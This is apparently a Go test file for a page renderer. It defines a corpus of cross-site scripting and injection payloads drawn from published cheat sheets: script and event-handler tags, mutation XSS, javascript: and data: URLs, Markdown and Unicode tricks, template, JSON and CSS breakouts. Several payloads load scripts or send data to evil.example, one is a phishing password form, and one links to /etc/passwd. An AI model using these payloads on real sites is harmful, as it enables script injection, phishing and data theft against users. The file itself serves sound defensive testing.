package pages_test

// payloads are ways in which text has become code in somebody's page, each of which would set window.pwned, ask another
// site, or leave behind an element, an attribute or an address that could. Where they come from: the cheat sheets of OWASP
// and PortSwigger, the published holes of Markdown renderers and sanitizers, and RFC 3986 and CommonMark read with ill will.
var payloads = slicesOf(
	payloadsOfHTML, payloadsOfAttributes, payloadsOfForeignElements, payloadsOfMutations, payloadsOfSchemes, payloadsOfAddresses,
	payloadsOfMarkdown, payloadsOfUnicode, payloadsOfTemplates, payloadsOfData, payloadsOfClobbering, payloadsOfStyles,
)

func slicesOf(lists ...[]string) (all []string) {
	for _, list := range lists {
		all = append(all, list...)
	}
	return all
}

var payloadsOfHTML = []string{
	`<script>window.pwned = 1</script>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<script type="module">window.pwned = 1</script>`,
	`<img src=x onerror="window.pwned = 1">`,
	`<img src=x onerror=window.pwned=1//`,
	`<img/src/onerror=window.pwned=1>`,
	`<img src="https://evil.example/track.png">`,
	`<iframe src="javascript:parent.pwned = 1"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
	`<object data="javascript:window.pwned=1"></object>`,
	`<embed src="data:text/html,<script>parent.pwned=1</script>">`,
	`<a href="javascript:window.pwned=1">click</a>`,
	`<form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
	`<input autofocus onfocus=window.pwned=1>`,
	`<button formaction="javascript:window.pwned=1">Send</button>`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<link rel="prefetch" href="https://evil.example/x">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<body onload=window.pwned=1>`,
	`<details open ontoggle=window.pwned=1>`,
	`<video><source onerror="window.pwned=1"></video>`,
	`<audio src=x onerror=window.pwned=1>`,
	`<marquee onstart=window.pwned=1>`,
	`<dialog open onclose=window.pwned=1>`,
	`<div popover id=x onbeforetoggle=window.pwned=1><button popovertarget=x>x</button>`,
	`<template><script>window.pwned=1</script></template>`,
	`<template shadowrootmode=open><slot onslotchange=window.pwned=1></slot></template>`,
	`<plaintext>`,
	`<!--`,
	`<!DOCTYPE html><html manifest="https://evil.example">`,
}

var payloadsOfAttributes = []string{
	`" onmouseover="window.pwned=1`,
	`' onmouseover='window.pwned=1`,
	"` onmouseover=`window.pwned=1",
	`"><script>window.pwned=1</script>`,
	`'><img src=x onerror=window.pwned=1>`,
	`x" autofocus tabindex=1 onfocus="window.pwned=1" y="`,
	`x onerror=window.pwned=1 `,
	`"/><svg/onload=window.pwned=1>`,
	`&quot; onmouseover=&quot;window.pwned=1`,
	`&#34;&#62;&#60;script&#62;window.pwned=1&#60;/script&#62;`,
	`&lt;img src=x onerror=window.pwned=1&gt;`,
	`\" onclick=\"window.pwned=1`,
}

var payloadsOfForeignElements = []string{
	`<svg onload="window.pwned = 1">`,
	`<svg><script>window.pwned = 1</script></svg>`,
	`<svg><script href="https://evil.example/x.js"/></svg>`,
	`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
	`<svg><a><animate attributeName=href values="javascript:window.pwned=1"/><text y=20>x</text></a></svg>`,
	`<svg><set attributeName="onmouseover" to="window.pwned=1">`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
	`<math><mtext></p><img src=x onerror=window.pwned=1></mtext></math>`,
	`<math href="javascript:window.pwned=1">click</math>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>`,
}

// What is harmless when it is parsed once, and is not when what came of it is written and parsed again.
var payloadsOfMutations = []string{
	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>`,
	`<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">`,
	`<svg><desc><![CDATA[</desc><script>window.pwned=1</script>]]></svg>`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=window.pwned=1>">`,
	`<table><td><img src=x onerror=window.pwned=1></table>`,
	`<textarea></textarea><img src=x onerror=window.pwned=1>`,
	`<title></title><script>window.pwned=1</script>`,
	`<xmp><p title="</xmp><svg/onload=window.pwned=1>">`,
	`<style><style/><img src=x onerror=window.pwned=1>`,
	`</p></div></li><script>window.pwned=1</script>`,
	`<!--><script>window.pwned=1</script>-->`,
	`<!--!><img src=x onerror=window.pwned=1><!-->`,
	`<![CDATA[<script>window.pwned=1</script>]]>`,
	`<?xml-stylesheet href="javascript:window.pwned=1"?>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'>`,
}

var payloadsOfSchemes = []string{
	`[click](javascript:window.pwned=1)`,
	`[click](JaVaScRiPt:window.pwned=1)`,
	`[click](  javascript:window.pwned=1  )`,
	"[click](java\tscript:window.pwned=1)",
	"[click](<java\nscript:window.pwned=1>)",
	"[click](\x01javascript:window.pwned=1)",
	"[click](\u00a0javascript:window.pwned=1)",
	`[click](javascript&colon;window.pwned=1)`,
	`[click](&#106;avascript:window.pwned=1)`,
	`[click](%6Aavascript:window.pwned=1)`,
	`[click](javascript\:window.pwned=1)`,
	`[click](javascript://x.example/%0awindow.pwned=1)`,
	`[click](vbscript:msgbox(1))`,
	`[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
	`[click](data:image/svg+xml,<svg onload=window.pwned=1>)`,
	`[click](blob:https://x.example/0)`,
	`[click](file:///etc/passwd)`,
	`[click](filesystem:https://x.example/temporary/x)`,
	`[click](view-source:https://x.example)`,
	`[click](intent://scan/#Intent;scheme=zxing;end)`,
	`[click](ms-msdt:/id PCWDiagnostic)`,
	`[click](about:blank)`,
}

var payloadsOfAddresses = []string{
	`[click](//evil.example)`,
	`[click](/\evil.example)`,
	`[click](\\evil.example\x)`,
	`[click](https:evil.example)`,
	`[click](https://bank.example@evil.example)`,
	`[click](https://user:password@evil.example)`,
	`[click](https://x.example/" onmouseover="window.pwned=1)`,
	`[click](https://x.example/'onmouseover='window.pwned=1)`,
	`[click](https://x.example/%22onmouseover=%22window.pwned=1)`,
	`[click](mailto:a@x.example?body=x"onclick="window.pwned=1)`,
	`[click](tel:1"onclick="window.pwned=1)`,
	`javascript:window.pwned=1//https://x.example`,
	`https://x.example/<script>window.pwned=1</script>`,
	`https://x.example/?q="><img src=x onerror=window.pwned=1>`,
	`a@x.example"onclick="window.pwned=1`,
}

var payloadsOfMarkdown = []string{
	`[a](https://x.example "title" onmouseover="window.pwned=1")`,
	`[<img src=x onerror=window.pwned=1>](https://x.example)`,
	`![x](x" onerror="window.pwned=1)`,
	`![x](javascript:window.pwned=1)`,
	`![x](https://evil.example/track.png?stolen)`,
	`![<script>window.pwned=1</script>](https://x.example/x.png)`,
	`[![x](https://evil.example/track.png)](javascript:window.pwned=1)`,
	`<javascript:window.pwned=1>`,
	`<https://x.example/"onmouseover="window.pwned=1>`,
	`<data:text/html,<script>window.pwned=1</script>>`,
	"`<script>window.pwned=1</script>`",
	"```\n</code></pre><script>window.pwned=1</script>\n```",
	"```\"><img src=x onerror=window.pwned=1>\nx\n```",
	"~~~html\n<script>window.pwned=1</script>",
	"# <img src=x onerror=window.pwned=1>",
	"> <script>window.pwned=1</script>",
	"- <script>window.pwned=1</script>\n- [x](javascript:window.pwned=1)",
	"999999999. <img src=x onerror=window.pwned=1>",
	"| <script>window.pwned=1</script> |\n|---|",
	"**<script>window.pwned=1</script>** *<img src=x onerror=window.pwned=1>*",
	"[x]: javascript:window.pwned=1\n[click][x]",
	"[click][javascript:window.pwned=1]",
	"[a](b \"\n<script>window.pwned=1</script>\")",
	"[^1]: <img src=x onerror=window.pwned=1>\n[^1]",
	"\\<script>window.pwned=1\\</script>",
	"$$\\href{javascript:window.pwned=1}{x}$$",
}

var payloadsOfUnicode = []string{
	"\u202etxt.exe\u202c <script\u2028>window.pwned=1</script\u2028>",
	"\u2067<img src=x onerror=window.pwned=1>\u2069",
	"<scr\x00ipt>window.pwned=1</scr\x00ipt>",
	"\ufeff<script>window.pwned=1</script>",
	"\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
	"<\u017fcript>window.pwned=1</\u017fcript>",
	"<img\u00a0src=x\u3000onerror=window.pwned=1>",
	"[\u2066click](javascript\u200b:window.pwned=1)",
	"\U000e003c\U000e0073<svg/onload=window.pwned=1>",
	"\ud7ff\ufffd\"><svg onload=window.pwned=1>",
}

var payloadsOfTemplates = []string{
	`{{constructor.constructor("window.pwned=1")()}}`,
	`{{define "title"}}<script>window.pwned=1</script>{{end}}`,
	`{{.Client}}{{asset "js/chat.js"}}`,
	`${window.pwned=1}`,
	`<%= window.pwned=1 %>`,
	`#{window.pwned=1}`,
	`{church}{seconds}{count}`,
	`{% raw %}<script>window.pwned=1</script>{% endraw %}`,
}

// What breaks out of JSON in a script, or out of a script.
var payloadsOfData = []string{
	`</script><script>window.pwned=1</script>`,
	`</SCRIPT ><img src=x onerror=window.pwned=1>`,
	`<!--<script>`,
	`]]></script><img src=x onerror=window.pwned=1>`,
	`"};window.pwned=1;//`,
	`\u003c/script\u003e\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`,
	"\u2028window.pwned=1\u2029",
	`","__proto__":{"pwned":1},"x":"`,
	"\nexport default 1;window.pwned=1//",
}

// Names that stand for something else once an element or an object has them.
var payloadsOfClobbering = []string{
	`<a id="chat-data" href="data:,{}">x</a>`,
	`<form id=chat-data name=textContent><input name=textContent></form>`,
	`<img name=getElementById>`,
	`<form name=querySelector><input name=children></form>`,
	`<a id=pwned></a><a id=pwned name=x href="javascript:1">x</a>`,
	`<iframe name=localStorage></iframe>`,
	`__proto__`,
	`constructor`,
	`toString`,
	`hasOwnProperty`,
}

var payloadsOfStyles = []string{
	`<style>* { display: none }</style>`,
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>`,
	`<div style="width:expression(window.pwned=1)">x</div>`,
	`red;}*{background:url(https://evil.example/x)}`,
	`</style><script>window.pwned=1</script>`,
	`<link rel=stylesheet href="data:text/css,*{display:none}">`,
}
